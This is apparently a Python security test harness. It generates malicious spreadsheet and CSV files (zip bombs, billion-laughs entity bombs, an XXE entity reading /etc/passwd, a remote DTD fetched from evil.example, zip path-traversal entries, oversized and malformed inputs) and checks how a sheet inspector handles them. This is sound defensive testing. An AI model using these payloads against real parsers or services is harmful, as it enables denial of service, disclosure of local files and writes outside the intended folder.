"""Files made to exhaust, to reach out or to deceive a reader; run as a script, it inspects each and says what it took.

Prints one JSON object: per file the finding codes and seconds, and the peak memory of this process and its children.
"""

from __future__ import annotations

import io
import json
import os
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATED = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
BOMB = "<!DOCTYPE b [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
)
EXTERNAL = "<!DOCTYPE b [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
REMOTE = "<!DOCTYPE b [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]>"


def zipped(members: dict[str, bytes | str], level: int = 9) -> bytes:
    """A zip of these members."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def xlsx(rows: str, doctype: str = "", shared: str = "", **more: str) -> bytes:
    """The smallest xlsx with these rows."""
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    ml = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    strings = (
        f'<Relationship Id="rId2" Type="{office}/sharedStrings" Target="sharedStrings.xml"/>'
        if shared
        else ""
    )
    return zipped(
        {
            "[Content_Types].xml": f'{HEAD}<Types xmlns="{types}"><Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{ml}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ml}.worksheet+xml"/></Types>',
            "_rels/.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'{HEAD}{doctype}<workbook {MAIN} {RELATED}><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>{strings}</Relationships>',
            "xl/worksheets/sheet1.xml": f"{HEAD}{doctype}<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>",
            **({"xl/sharedStrings.xml": f"{HEAD}{doctype}<sst {MAIN}>{shared}</sst>"} if shared else {}),
            **more,
        }
    )


def ods(rows: str, doctype: str = "") -> bytes:
    """The smallest ods with these rows."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f'{HEAD}{doctype}<office:document-content xmlns:office="{names}:office:1.0" xmlns:table="{names}:table:1.0"'
            f' xmlns:text="{names}:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:spreadsheet>'
            f'<table:table table:name="s">{rows}</table:table></office:spreadsheet></office:body></office:document-content>',
        }
    )


def inline(at: str, text: str) -> str:
    """A cell of inline text."""
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def understated() -> bytes:
    """A zip whose directory says that its one large member is small."""
    data = bytearray(xlsx(f'<row r="1">{inline("A1", "x" * 50_000_000)}</row>'))
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"sheet1.xml"))
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


FILES: dict[str, Callable[[], bytes]] = {
    "zip_bomb_of_zeros.xlsx": lambda: zipped({"xl/workbook.xml": b"\0" * 90_000_000}),
    "zip_bomb_of_many.xlsx": lambda: zipped({f"xl/{n}.xml": b" " * 900_000 for n in range(1500)}, 1),
    "zip_bomb_in_a_zip.xlsx": lambda: zipped({"xl/inner.zip": zipped({"b": b"\0" * 90_000_000})}),
    "zip_that_lies_about_a_size.xlsx": understated,
    "entity_bomb.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "&a11;")}</row>', BOMB + "]>"),
    "entity_bomb_in_strings.xlsx": lambda: xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', BOMB + "]>", "<si><t>&a11;</t></si>"),
    "entity_bomb.ods": lambda: ods("<table:table-row/>", BOMB + "]>"),
    "external_entity.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "&x;")}</row>', EXTERNAL),
    "external_entity.ods": lambda: ods("<table:table-row><table:table-cell><text:p>&x;</text:p></table:table-cell></table:table-row>", EXTERNAL),
    "remote_dtd.xlsx": lambda: xlsx("", REMOTE),
    "remote_dtd.ods": lambda: ods("", REMOTE),
    "ten_million_rows.csv": lambda: "番号,実施状況\n".encode() + b"1,x\n" * 10_000_000,
    "ten_million_rows_at_the_limit.csv": lambda: "番号,実施状況\n".encode() + b"1\n" * 9_900_000,
    "ten_million_empty_rows.csv": lambda: b"\n" * 10_000_000,
    "ten_million_rows.ods": lambda: ods('<table:table-row table:number-rows-repeated="10000000"><table:table-cell><text:p>1</text:p></table:table-cell></table:table-row>'),
    "a_million_rows.xlsx": lambda: xlsx("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 1_048_577))),
    "cells_repeated.ods": lambda: ods('<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16000"><text:p>1</text:p></table:table-cell></table:table-row>'),
    "cell_far_away.xlsx": lambda: xlsx('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "cell_of_a_megabyte.csv": lambda: "番号,実施状況\n1,".encode() + b"x" * 1_000_000 + b"\n",
    "cell_of_a_megabyte_in_quotes.csv": lambda: '番号,実施状況\n1,"'.encode() + b"x\n" * 500_000 + b'"\n',
    "quote_never_closed.csv": lambda: '番号,実施状況\n1,"'.encode() + b"x," * 5_000_000,
    "cell_of_a_megabyte.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", os.urandom(700_000).hex())}</row>'),
    "text_shared_by_every_cell.xlsx": lambda: xlsx(
        "".join(f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="s"><v>0</v></c>' for c in "ABCDEFGHIJ") + "</row>" for n in range(1, 15_000)),
        shared=f"<si><t>{os.urandom(16_000).hex()}</t></si>",
    ),
    "deep_xml.ods": lambda: ods("<table:table-row>" * 200_000 + "</table:table-row>" * 200_000),
    "columns_without_end.csv": lambda: b"a," * 9_000_000,
    "workbook_without_a_sheet.xlsx": lambda: xlsx("").replace(b"sheet1", b"sheet9"),
    "paths_that_lead_out.xlsx": lambda: zipped({"../../planted": b"x", f"{Path.cwd()}/planted": b"x", "xl/workbook.xml": b"<x/>"}),
    "half_a_file.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "x")}</row>')[:-200],
    "noise.xlsx": lambda: b"PK\x03\x04" + os.urandom(100_000),
    "noise.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(500_000),
    "noise.csv": lambda: os.urandom(500_000),
    "page.xls": lambda: b"<html><script>alert(1)</script><table><tr><td>1</td></tr></table>",
}  # fmt: skip


def main() -> None:
    """``make DIR`` writes the files; ``inspect DIR PLAN`` reads each and prints what came of it."""
    if sys.argv[1] == "make":
        for name, make in FILES.items():
            (Path(sys.argv[2]) / name).write_bytes(make())
    else:
        inspect(Path(sys.argv[2]), Path(sys.argv[3]))


def inspect(folder: Path, plan_folder: Path) -> None:
    """Inspect each file and print what came of it."""
    import resource

    from helpers.fiscal_year import FiscalYear
    from helpers.plan.plan_file import load_plan
    from helpers.sheets import inspect_bytes

    plan = load_plan(plan_folder)
    found = {}
    for name in FILES:
        data = (folder / name).read_bytes()
        begin = time.monotonic()
        reading = inspect_bytes(data, name, plan, FiscalYear(2022))
        found[name] = {
            "codes": [finding.code for finding in reading.findings if finding.is_error],
            "told": str(reading.findings[0]) if reading.findings else "",
            "seconds": time.monotonic() - begin,
        }
    children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    # Not ru_maxrss: that begins with what the process had that started this one.
    status = Path("/proc/self/status").read_text(encoding="ascii").splitlines()
    own = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
    print(json.dumps({"files": found, "children_kb": children, "own_kb": own}, ensure_ascii=False))


if __name__ == "__main__":
    main()
